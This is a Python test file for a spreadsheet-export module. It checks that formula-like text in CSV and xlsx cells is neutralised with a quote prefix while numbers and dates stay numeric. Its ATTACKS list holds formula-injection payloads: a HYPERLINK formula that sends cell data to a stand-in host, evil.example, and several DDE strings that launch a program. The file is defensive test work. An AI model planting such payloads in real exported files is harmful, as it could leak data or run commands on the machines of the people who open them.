"""``core.sheets``: text that starts like a formula is written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from onecard.core.sheets import csv_row, formula_like, safe_cell, unquote, xlsx_append

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+86 138 0000 0000",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised_for_csv(text: str) -> None:
    assert formula_like(text)
    assert safe_cell(text) == "'" + text
    assert unquote(safe_cell(text)) == text


@pytest.mark.parametrize("value", [0, -1250, 12.5, Decimal("-12.50"), date(2026, 3, 10), None])
def test_numbers_dates_and_empty_cells_are_left_alone(value: object) -> None:
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-12.50", "+86", "600", "1e3", "张伟", "", "a=b", "'x"])
def test_plain_numbers_and_ordinary_text_are_not_touched(text: str) -> None:
    assert safe_cell(text) == text
    assert unquote(text) == text


def test_a_csv_row_quotes_only_the_dangerous_cells() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(csv_row(["=1+1", "-5", 3, "张伟"]))
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-5", "3", "张伟"]


def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    xlsx_append(ws, [*ATTACKS, "张伟", Decimal("-12.50"), 7])
    buf = io.BytesIO()
    wb.save(buf)
    sheet = zipfile.ZipFile(io.BytesIO(buf.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet  # no formula anywhere in the file
    row = next(iter(load_workbook(io.BytesIO(buf.getvalue())).worksheets[0].iter_rows()))
    for cell, text in zip(row, ATTACKS, strict=False):
        # (openpyxl's own writer leaves a carriage return bare, and XML reads it back as a
        # line feed; through lxml it is escaped and comes back as it was: text either way.)
        assert cell.value in (text, text.replace("\r", "\n"))
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert (row[-3].value, row[-3].quotePrefix) == ("张伟", False)
    assert row[-2].data_type == "n" and row[-2].value == pytest.approx(-12.5)
    assert row[-1].data_type == "n" and row[-1].value == 7
